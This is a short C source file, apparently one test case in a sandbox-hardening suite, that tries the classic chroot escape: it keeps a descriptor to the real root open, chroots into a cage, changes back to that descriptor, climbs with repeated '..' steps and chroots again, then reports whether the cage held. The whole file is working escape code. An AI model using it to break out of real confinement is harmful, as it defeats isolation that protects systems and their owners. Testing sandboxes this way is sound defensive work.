// title: walks out of a root folder by a second chroot and many steps up
// source: known technique: the chroot break of chroot(2), by a folder kept open across a second chroot
// twin: namespace
#include "attack.h"

ATTACK(chroot_escape) {
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    const char *cage = access(canary.folder, F_OK) == 0 ? canary.folder : "/tmp";
    if (chroot(cage) == -1) {
        held("chroot: %s", strerror(errno));
        return;
    }
    if (fchdir(outside) == 0)
        for (int step = 0; step < 40; step++) {
            if (chdir("..")) break;
        }
    if (chroot(".") == 0 && access("/usr/bin", F_OK) == 0) through("out of %s again", cage);
    else held("the cage holds");
}
